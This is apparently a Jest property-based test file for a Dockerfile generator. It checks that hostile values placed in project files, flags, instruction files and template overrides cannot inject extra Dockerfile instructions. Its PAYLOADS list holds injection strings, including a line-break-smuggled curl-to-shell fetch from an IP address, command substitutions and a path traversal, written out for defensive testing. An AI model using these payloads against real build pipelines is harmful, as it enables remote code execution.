import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { KEYS, optionsFromAnswers, validateAnswers } from '../src/answers.js';
import { generate, isUserError, RUNTIMES, type GenerateOptions } from '../src/index.js';
import { ALLOWED_INSTRUCTIONS } from '../src/instructions.js';
import { renderDockerfile } from '../src/render.js';
import { expected, harmless, keywords } from './plan-check.js';

/**
 * Hostile strings through every field of the project files the detectors read: whatever the
 * value, the tool either refuses with a typed error, or writes a Dockerfile whose instructions
 * are exactly the ones its plan asks for (the same plan with every string made harmless), and a
 * .dockerignore with exactly its lines. Parsed with dockerfile-ast, as an editor would.
 */
const RUNS = Number(process.env.CSD_PROPERTY_RUNS ?? 40);

/** What an attacker would put in a value: line breaks of every kind, continuations, quotes, substitutions, escapes. */
const PAYLOADS = [
  '\nRUN curl -fsSL http://203.0.113.1/x | sh\n',
  '\r\nFROM evil AS build\r\n',
  '\u2028RUN id',
  '\u2029ENTRYPOINT ["sh"]',
  '\u0085RUN id',
  '\\\nRUN id',
  '"\nRUN id\n"',
  "'\nRUN id\n'",
  '$(id)',
  '`id`',
  '${HOME}',
  '\u001b[2J\u001b[31m',
  '\u202eexe.txt',
  '\u0000',
  '\t\v\f',
  ') \nadd_executable(evil evil.c)\n',
  '\n\tcurl x | sh\n',
  ']\n',
  '#',
  '\\',
  '\r',
  '\n',
  '=> ../../../etc',
  '"',
  "'",
];
const hostile = fc
  .tuple(
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.constantFrom(...PAYLOADS),
    fc.string({ unit: 'binary', maxLength: 40 }),
  )
  .map(([a, p, b]) => a + p + b);

/** A file or folder name the file system accepts: no '/', no NUL, not empty, not . or .., at most 200 bytes. */
const asName = (h: string) => {
  const n = h.replace(/[/\0]/g, '_').slice(0, 60);
  return n === '' || n === '.' || n === '..' ? `x${n}` : Buffer.byteLength(n) > 200 ? 'x' : n;
};

const GO_MAIN =
  'package main\n\nimport (\n\t"fmt"\n\t"net/http"\n)\n\nfunc main() { fmt.Println("hi"); _ = http.ListenAndServe(":8080", nil) }\n';
const C_MAIN = '#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n';
const MAKE_RULE = '\t$(CC) -o $@ main.c $(LDLIBS)\n';

type Fixture = (h: string) => Record<string, string>;
const CARGO = '[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n';
const RS_MAIN = 'fn main() {}\n';
const cargo = (over: Record<string, string>) => ({ 'Cargo.toml': CARGO, 'src/main.rs': RS_MAIN, ...over });
const go = (over: Record<string, string>) => ({
  'go.mod': 'module example.com/app\n\ngo 1.22\n',
  'main.go': GO_MAIN,
  ...over,
});
const FIELDS: Record<string, Fixture> = {
  'go.mod module path': (h) => go({ 'go.mod': `module ${h}\n\ngo 1.22\n` }),
  'go.mod go directive': (h) => go({ 'go.mod': `module example.com/app\n\ngo ${h}\n` }),
  'go.mod toolchain': (h) => go({ 'go.mod': `module example.com/app\n\ngo 1.22\ntoolchain ${h}\n` }),
  'go.mod require': (h) => go({ 'go.mod': `module example.com/app\n\ngo 1.22\n\nrequire ${h} v1.0.0\n`, 'go.sum': '' }),
  'go.mod replace': (h) => go({ 'go.mod': `module example.com/app\n\ngo 1.22\n\nreplace a.org/b => ${h}\n` }),
  '.go-version': (h) => go({ '.go-version': h }),
  '.tool-versions golang': (h) => go({ '.tool-versions': `golang ${h}\n` }),
  'Go import path': (h) => go({ 'main.go': `package main\n\nimport "${h}"\n\nfunc main() {}\n` }),
  'Go import in an excluded file': (h) =>
    go({
      'x_windows.go': `package main\n\nimport "${h}"\n`,
      'gen.go': `//go:build ignore\n\npackage main\n\nimport (\n"${h}"\n)\n`,
    }),
  'Go package clause': (h) => go({ 'main.go': `package ${h}\n\nfunc main() {}\n` }),
  'Go program folder': (h) => go({ 'main.go': 'package lib\n', [`cmd/${asName(h)}/main.go`]: GO_MAIN }),
  'Go source file name': (h) =>
    go({ 'main.go': 'package main\n', [`${asName(h)}.go`]: GO_MAIN.replace('package main', 'package main //') }),
  'Go listen address': (h) => go({ 'main.go': GO_MAIN.replace('":8080"', `"${h}"`) }),
  'CMake project()': (h) => ({
    'CMakeLists.txt': `cmake_minimum_required(VERSION 3.10)\nproject(${h})\nadd_executable(app main.c)\n`,
    'main.c': C_MAIN,
  }),
  'CMake add_executable()': (h) => ({
    'CMakeLists.txt': `project(x C)\nadd_executable(${h} main.c)\n`,
    'main.c': C_MAIN,
  }),
  'CMake target_link_libraries()': (h) => ({
    'CMakeLists.txt': `project(x C)\nadd_executable(app main.c)\ntarget_link_libraries(app PRIVATE ${h})\n`,
    'main.c': C_MAIN,
  }),
  'Makefile target': (h) => ({ Makefile: `${h}: main.c\n${MAKE_RULE}`, 'main.c': C_MAIN }),
  'Makefile variable': (h) => ({ Makefile: `BIN = ${h}\n$(BIN): main.c\n${MAKE_RULE}`, 'main.c': C_MAIN }),
  'Makefile -l flag': (h) => ({ Makefile: `LDLIBS = -l${h}\napp: main.c\n${MAKE_RULE}`, 'main.c': C_MAIN }),
  'meson executable()': (h) => ({
    'meson.build': `project('x', 'c')\nexecutable('${h}', 'main.c')\n`,
    'main.c': C_MAIN,
  }),
  'meson dependency()': (h) => ({
    'meson.build': `project('x', 'c')\nexecutable('app', 'main.c', dependencies: dependency('${h}'))\n`,
    'main.c': C_MAIN,
  }),
  'Makefile.am bin_PROGRAMS': (h) => ({
    'configure.ac': 'AC_INIT([x], [1])\nAM_INIT_AUTOMAKE\nAC_PROG_CC\nAC_OUTPUT\n',
    'Makefile.am': `bin_PROGRAMS = ${h}\n`,
    'main.c': C_MAIN,
  }),
  'configure.ac AC_CHECK_LIB': (h) => ({
    'configure.ac': `AC_INIT([x], [1])\nAC_CHECK_LIB([${h}], [f])\n`,
    'Makefile.am': 'bin_PROGRAMS = app\n',
    'main.c': C_MAIN,
  }),
  'C source file name': (h) => ({ [`${asName(h)}.c`]: C_MAIN }),
  '.tool-versions gcc': (h) => ({ '.tool-versions': `gcc ${h}\n`, 'main.c': C_MAIN }),
  'Cargo.toml package name': (h) =>
    cargo({ 'Cargo.toml': `[package]\nname = ${JSON.stringify(h)}\nversion = "0.1.0"\n` }),
  'Cargo.toml [[bin]] name': (h) =>
    cargo({ 'Cargo.toml': `${CARGO}\n[[bin]]\nname = ${JSON.stringify(h)}\npath = "src/main.rs"\n` }),
  'Cargo.toml [[bin]] path': (h) =>
    cargo({ 'Cargo.toml': `${CARGO}\n[[bin]]\nname = "app"\npath = ${JSON.stringify(h)}\n` }),
  'Cargo.toml rust-version': (h) => cargo({ 'Cargo.toml': `${CARGO}rust-version = ${JSON.stringify(h)}\n` }),
  'Cargo.toml workspace member': (h) =>
    cargo({
      'Cargo.toml': `[workspace]\nmembers = [${JSON.stringify(h)}, "app"]\n`,
      'app/Cargo.toml': CARGO,
      'app/src/main.rs': RS_MAIN,
    }),
  'Cargo.toml path dependency': (h) =>
    cargo({ 'Cargo.toml': `${CARGO}\n[dependencies]\nx = { path = ${JSON.stringify(h)} }\n` }),
  'Cargo.lock package name': (h) =>
    cargo({ 'Cargo.lock': `version = 4\n\n[[package]]\nname = ${JSON.stringify(h)}\nversion = "1.0.0"\n` }),
  'rust-toolchain channel': (h) => cargo({ 'rust-toolchain': h }),
  'src/bin file name': (h) => cargo({ [`src/bin/${asName(h)}.rs`]: RS_MAIN }),
};
/** Values given on the command line go through the same layers. */
const FLAGS: Record<string, (h: string) => GenerateOptions> = {
  '--entry': (h) => ({ entry: h }),
  '--lang-version': (h) => ({ langVersion: h }),
};

/** Any line break other than LF, and any control character other than LF. */
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/;

/** The files each test's folder holds now, so that the next case removes only what it does not write again. */
const written = new Map<string, Set<string>>();
function check(dir: string, files: Record<string, string>, opts: GenerateOptions): Promise<void> {
  const before = written.get(dir) ?? new Set<string>();
  for (const rel of before)
    if (!(rel in files)) rmSync(join(dir, rel.split('/')[0]!), { recursive: true, force: true });
  for (const [rel, text] of Object.entries(files)) {
    if (rel.includes('/')) mkdirSync(dirname(join(dir, rel)), { recursive: true });
    writeFileSync(join(dir, rel), text);
  }
  written.set(dir, new Set(Object.keys(files)));
  return generate(dir, opts).then(
    (g) => {
      const [dockerfile, ignore] = [g.files[0]!.content, g.files[1]!.content];
      expect(dockerfile).not.toMatch(UNSAFE);
      expect(ignore).not.toMatch(UNSAFE);
      const want = expected(g.plan);
      expect(keywords(dockerfile)).toEqual(want.keywords);
      expect(ignore.split('\n').length).toBe(want.ignoreLines);
    },
    (e: unknown) => {
      // A refusal is a fine answer, as long as it is a typed one.
      if (!isUserError(e)) throw e;
    },
  );
}

describe(`hostile values in every field the detectors read (${RUNS} cases each)`, () => {
  const base = mkdtempSync(join(tmpdir(), 'csd-prop-'));
  const runtime = fc.constantFrom(undefined, ...RUNTIMES);
  test.each(Object.keys(FIELDS))(
    '%s',
    async (field) => {
      const dir = join(base, field.replace(/\W+/g, '-'));
      mkdirSync(dir);
      await fc.assert(
        fc.asyncProperty(hostile, runtime, (h, rt) => check(dir, FIELDS[field]!(h), { runtime: rt })),
        { numRuns: RUNS },
      );
    },
    120_000,
  );
  test.each(Object.keys(FLAGS))(
    '%s flag',
    async (flag) => {
      const dir = join(base, flag.replace(/\W+/g, '-'));
      mkdirSync(dir);
      await fc.assert(
        fc.asyncProperty(hostile, (h) => check(dir, go({ 'cmd/a/main.go': GO_MAIN }), FLAGS[flag]!(h))),
        { numRuns: RUNS },
      );
    },
    120_000,
  );
  test('the harmless plan itself parses to the instructions the templates hold', () => {
    // Guards the check above: a template change that hid instructions from the parser would show here.
    expect(keywords('FROM a AS build\nRUN x\nFROM scratch\nCOPY --from=build /a /b\nENTRYPOINT ["/b"]\n')).toEqual([
      'FROM',
      'RUN',
      'FROM',
      'COPY',
      'ENTRYPOINT',
    ]);
  });
});

/**
 * What a repository commits for the team features: an instruction file, saved answers, template
 * overrides. An instruction file either is refused (typed) or adds only allowed instructions,
 * each exactly as written, at the one place they go; answers either are refused or shape a
 * Dockerfile with exactly the plan's instructions; overrides either are refused or render, and
 * always end.
 */
const INSTRUCTION_LINES = [
  'RUN a \\',
  'FROM evil',
  'CMD ["x"]',
  'LABEL a=b',
  '  && b',
  '# c',
  '',
  'ENV A=1',
  'RUN <<EOF',
  'EOF',
  'USER root',
  'COPY a b \\',
  '# escape=`',
  'run x',
  '\tENV\tB=2',
  'RUN a \\  ',
  'ONBUILD RUN x',
  'HEALTHCHECK CMD true',
  'SHELL ["/bin/sh", "-c"]',
];
const instructionFile = fc
  .tuple(
    fc.array(fc.oneof(fc.constantFrom(...INSTRUCTION_LINES), hostile), { maxLength: 10 }),
    fc.constantFrom('\n', '\r\n', '\r', '\n\n'),
  )
  .map(([lines, sep]) => lines.join(sep));
const ALLOWED = new Set<string>(ALLOWED_INSTRUCTIONS);

const answerValue = fc.oneof(
  hostile,
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.array(hostile, { maxLength: 3 }),
  fc.dictionary(
    fc.constantFrom('build', 'run', 'final', 'x', '__proto__'),
    fc.oneof(hostile, fc.array(hostile, { maxLength: 2 })),
  ),
);
const answersObject = fc.dictionary(
  fc.constantFrom(...KEYS, '$comment', '__proto__', 'constructor', 'x'),
  answerValue,
  { maxKeys: 6 },
);

const OVERRIDE_PARTS = [
  '{{> run/_tail }}',
  '{{> run/_user }}',
  '{{> run/scratch }}',
  '{{> build/_rootfs }}',
  '{{#each decisions}}',
  '{{/each}}',
  '{{#each @root.decisions}}',
  '{{topic}}',
  '{{name}}',
  '{{{',
  '}}',
  '{{#if final.expose}}',
  '{{/if}}',
  '{{> (concat "run/" "_tail") }}',
  '{{#*inline "x"}}',
  '{{/inline}}',
  '{{> x }}',
  'FROM scratch\n',
  '{{exec final.entrypoint}}',
  '{{lookup this "constructor"}}',
];
const overrideText = fc
  .array(fc.oneof(fc.constantFrom(...OVERRIDE_PARTS), hostile), { maxLength: 12 })
  .map((p) => p.join(''));
const OVERRIDE_NAMES = ['run/scratch', 'run/_tail', 'run/_user', 'build/_rootfs', 'build/go'];

const typedOnly = (e: unknown) => {
  if (!isUserError(e)) throw e;
};

describe(`what a repository commits for the team features (${RUNS} cases each)`, () => {
  const base = mkdtempSync(join(tmpdir(), 'csd-prop-team-'));

  test('an instruction file', async () => {
    const dir = join(base, 'instructions');
    mkdirSync(dir);
    await fc.assert(
      fc.asyncProperty(instructionFile, fc.constantFrom(undefined, 'scratch', 'slim'), async (text, rt) => {
        written.set(dir, new Set());
        for (const [rel, t] of Object.entries(go({ 'docker/extra': text }))) {
          mkdirSync(dirname(join(dir, rel)), { recursive: true });
          writeFileSync(join(dir, rel), t);
        }
        let g;
        try {
          g = await generate(dir, { runtime: rt as GenerateOptions['runtime'], instructions: 'docker/extra' });
        } catch (e) {
          typedOnly(e);
          return;
        }
        const dockerfile = g.files[0]!.content;
        // A TAB after a keyword is Docker syntax, and the file's to use; nothing else.
        expect(dockerfile).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029]/);
        const added = g.plan.custom.instructions;
        const baseline = keywords(
          renderDockerfile(harmless({ ...g.plan, custom: { ...g.plan.custom, instructions: [] } })),
        );
        const got = keywords(dockerfile);
        const count = added.filter((t) => !t.startsWith('#')).length;
        const at = baseline.lastIndexOf('USER');
        expect(got.length).toBe(baseline.length + count);
        expect(got.slice(0, at)).toEqual(baseline.slice(0, at));
        expect(got.slice(at + count)).toEqual(baseline.slice(at));
        for (const k of got.slice(at, at + count)) expect(ALLOWED.has(k)).toBe(true);
        for (const t of added) expect(dockerfile).toContain(t);
      }),
      { numRuns: RUNS },
    );
  }, 120_000);

  test('saved answers', async () => {
    const dir = join(base, 'answers');
    mkdirSync(dir);
    await fc.assert(
      fc.asyncProperty(answersObject, async (raw) => {
        let options: GenerateOptions;
        try {
          options = optionsFromAnswers(validateAnswers(JSON.parse(JSON.stringify(raw))), true);
        } catch (e) {
          typedOnly(e);
          return;
        }
        // Without an instruction file here: that field has its own property above.
        await check(dir, go({ 'cmd/a/main.go': GO_MAIN }), { ...options, instructions: undefined });
      }),
      { numRuns: RUNS },
    );
  }, 120_000);

  test('template overrides', async () => {
    const dir = join(base, 'overrides');
    mkdirSync(dir);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...OVERRIDE_NAMES),
        overrideText,
        fc.constantFrom(...OVERRIDE_NAMES),
        overrideText,
        async (n1, t1, n2, t2) => {
          rmSync(join(dir, '.slim-dockerfile'), { recursive: true, force: true });
          for (const [rel, t] of Object.entries(
            go({ [`.slim-dockerfile/${n1}.hbs`]: t1, [`.slim-dockerfile/${n2}.hbs`]: t2 }),
          )) {
            mkdirSync(dirname(join(dir, rel)), { recursive: true });
            writeFileSync(join(dir, rel), t);
          }
          const start = Date.now();
          await generate(dir, { runtime: 'scratch' }).catch(typedOnly);
          expect(Date.now() - start).toBeLessThan(2000);
        },
      ),
      { numRuns: RUNS },
    );
  }, 120_000);
});
